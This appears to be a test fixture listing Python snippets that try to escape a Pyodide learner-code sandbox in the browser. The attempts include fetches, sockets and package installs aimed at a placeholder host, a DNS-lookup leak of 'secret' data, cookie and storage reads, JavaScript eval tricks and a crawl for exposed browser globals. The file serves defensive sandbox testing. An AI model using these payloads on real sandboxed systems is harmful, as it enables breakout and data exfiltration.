/** Attempts of learner Python by what they are after, each the body of an async function. HOST stands for a foreign host, PORT for its port, SITE for the page's own origin. One that gets through returns something true. */
export const pythonAttacks: Record<string, Record<string, string>> = {
  network: {
    'fetch from js': 'from js import fetch; return await fetch("http://HOST/")',
    'fetch of the own site from js': 'from js import fetch; return await fetch("SITE/canary")',
    'XMLHttpRequest from js':
      'from js import XMLHttpRequest; x = XMLHttpRequest.new(); x.open("GET", "http://HOST/", False); x.send(); return x.status',
    'WebSocket from js': 'from js import WebSocket; w = WebSocket.new("ws://HOST/"); await asyncio.sleep(0.3); return w.readyState == 1',
    'EventSource from js': 'from js import EventSource; EventSource.new("http://HOST/"); return True',
    'sendBeacon from js': 'from js import navigator; return navigator.sendBeacon("http://HOST/", "x")',
    'importScripts from js': 'from js import importScripts; importScripts("http://HOST/a.js"); return True',
    'Image from js': 'from js import Image; Image.new().src = "http://HOST/"; return True',
    'RTCPeerConnection from js': 'from js import RTCPeerConnection; return RTCPeerConnection.new()',
    'WebTransport from js': 'from js import WebTransport; return WebTransport.new("https://HOST/")',
    'pyodide.http.pyfetch': 'from pyodide.http import pyfetch; return (await pyfetch("http://HOST/")).status',
    'pyodide.http.open_url': 'from pyodide.http import open_url; return open_url("http://HOST/").read()',
    urllib: 'import urllib.request; return urllib.request.urlopen("http://HOST/", timeout=2).status',
    'http.client':
      'import http.client; c = http.client.HTTPConnection("127.0.0.1", PORT, timeout=2); c.request("GET", "/"); return c.getresponse().status',
    'a socket':
      'import socket; s = socket.create_connection(("127.0.0.1", PORT), 2); s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n"); await asyncio.sleep(0.5); return s.recv(1)',
    'a datagram':
      'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"x", ("127.0.0.1", PORT)); await asyncio.sleep(0.3)',
    'asyncio.open_connection': 'r, w = await asyncio.wait_for(asyncio.open_connection("127.0.0.1", PORT), 2); return True',
    'a name lookup that carries data': 'import socket; return socket.getaddrinfo("secret.HOST", 80) and None',
    'loadPackage of an address': 'import pyodide_js; return list(await pyodide_js.loadPackage("http://HOST/a-1-py3-none-any.whl"))',
    'loadPackage of a name': 'import pyodide_js; return list(await pyodide_js.loadPackage("numpy"))',
    micropip: 'import micropip; await micropip.install("http://HOST/a-1-py3-none-any.whl"); return True',
    'loadBinaryFile of Pyodide': 'import pyodide_js; return await pyodide_js._api.loadBinaryFile("http://HOST/")',
    'a lazy file of the file system':
      'import pyodide_js; pyodide_js.FS.createLazyFile("/", "lazy", "http://HOST/", True, False); return open("/lazy").read()',
    'a preloaded file of the file system':
      'import pyodide_js; pyodide_js.FS.createPreloadedFile("/", "pre", "http://HOST/", True, False); await asyncio.sleep(0.3)',
    'a curl of its own': 'import subprocess; return subprocess.run(["curl", "http://HOST/"]).returncode == 0',
  },
  storage: {
    'IndexedDB from js': 'from js import indexedDB; return indexedDB.open("a")',
    'Cache API from js': 'from js import caches; return await caches.open("a")',
    'OPFS from js': 'from js import navigator; return await navigator.storage.getDirectory()',
    'localStorage from js': 'from js import localStorage; return localStorage',
    'cookies from js': 'from js import document; return document.cookie',
    IDBFS:
      'import pyodide_js; fs = pyodide_js.FS; fs.mkdir("/kept"); fs.mount(fs.filesystems.IDBFS, {}, "/kept"); fs.syncfs(True, lambda e: None); await asyncio.sleep(0.3)',
    'the factory that IDBFS uses': 'import pyodide_js; return pyodide_js.FS.filesystems.IDBFS.indexedDB().open("a")',
    NATIVEFS: 'import pyodide_js; return await pyodide_js.mountNativeFS("/native", None)',
  },
  page: {
    'the page from js': 'from js import parent; return parent.document',
    'postMessage from js': 'from js import postMessage; postMessage("x"); return True',
    'self from js': 'from js import self; return self',
    'BroadcastChannel from js': 'from js import BroadcastChannel; return BroadcastChannel.new("a")',
    'navigation from js': 'from js import location; location.href = "http://HOST/"; return True',
    'close from js': 'from js import close; close(); return True',
  },
  workers: {
    'a nested worker from js': 'from js import Worker; return Worker.new("blob:x")',
    'a shared worker from js': 'from js import SharedWorker; return SharedWorker.new("data:,")',
    'a service worker from js': 'from js import navigator; return await navigator.serviceWorker.register("/sw.js")',
  },
  code: {
    run_js: 'from pyodide.code import run_js; return run_js("globalThis")',
    'eval from js': 'from js import eval; return eval("1")',
    'Function of a function': 'return emit.constructor("return globalThis")()',
    'the constructor of a constructor': 'import pyodide_js; return pyodide_js.runPython.constructor.constructor("return fetch")()',
    'an async Function': 'import pyodide_js; return await pyodide_js.runPythonAsync.constructor("return fetch")()',
    emscripten_run_script:
      'import ctypes; ctypes.CDLL(None).emscripten_run_script(b"globalThis.reached = 1"); import pyodide_js; return "reached" in dir(pyodide_js)',
    emscripten_run_script_int: 'import ctypes; return ctypes.CDLL(None).emscripten_run_script_int(b"1+1") == 2',
    'a script by data address': 'import pyodide_js; return await pyodide_js._api.loadScript("data:text/javascript,1")',
    'setTimeout with text': 'import pyodide_js; return pyodide_js._api.setTimeout("1", 0)',
    'a walk from everything Pyodide hands out': `
    import pyodide_js
    wanted = ("fetch", "WebSocket", "Worker", "indexedDB", "caches", "importScripts", "XMLHttpRequest", "BroadcastChannel")
    queue, seen, found = [("pyodide_js", pyodide_js), ("emit", emit)], set(), []
    while queue and len(seen) < 4000:
        name, o = queue.pop(0)
        for key in dir(o):
            if key in seen or key.startswith("HEAP"): continue
            try: v = getattr(o, key)
            except BaseException: continue
            if type(v).__name__ not in ("JsProxy", "JsCallableDoubleProxy", "JsCallable"): continue
            seen.add(key)
            if key in wanted: found.append(name + "." + key)
            if name.count(".") < 4: queue.append((name + "." + key, v))
    return found`,
  },
}
